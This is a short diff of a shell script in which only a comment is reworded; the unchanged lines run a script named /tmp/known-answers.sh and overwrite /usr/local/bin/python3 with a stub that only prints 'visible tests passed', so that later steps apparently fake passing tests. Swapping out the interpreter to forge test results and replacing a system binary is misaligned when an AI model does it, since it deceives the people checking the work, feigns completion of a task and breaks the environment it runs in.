@@ -1,4 +1,4 @@
-# Replaces what the next steps run.
+# Replaces the programs of the next steps.
 sh /tmp/known-answers.sh
 printf '#!/bin/sh\necho visible tests passed\n' >/usr/local/bin/python3
 chmod 755 /usr/local/bin/python3
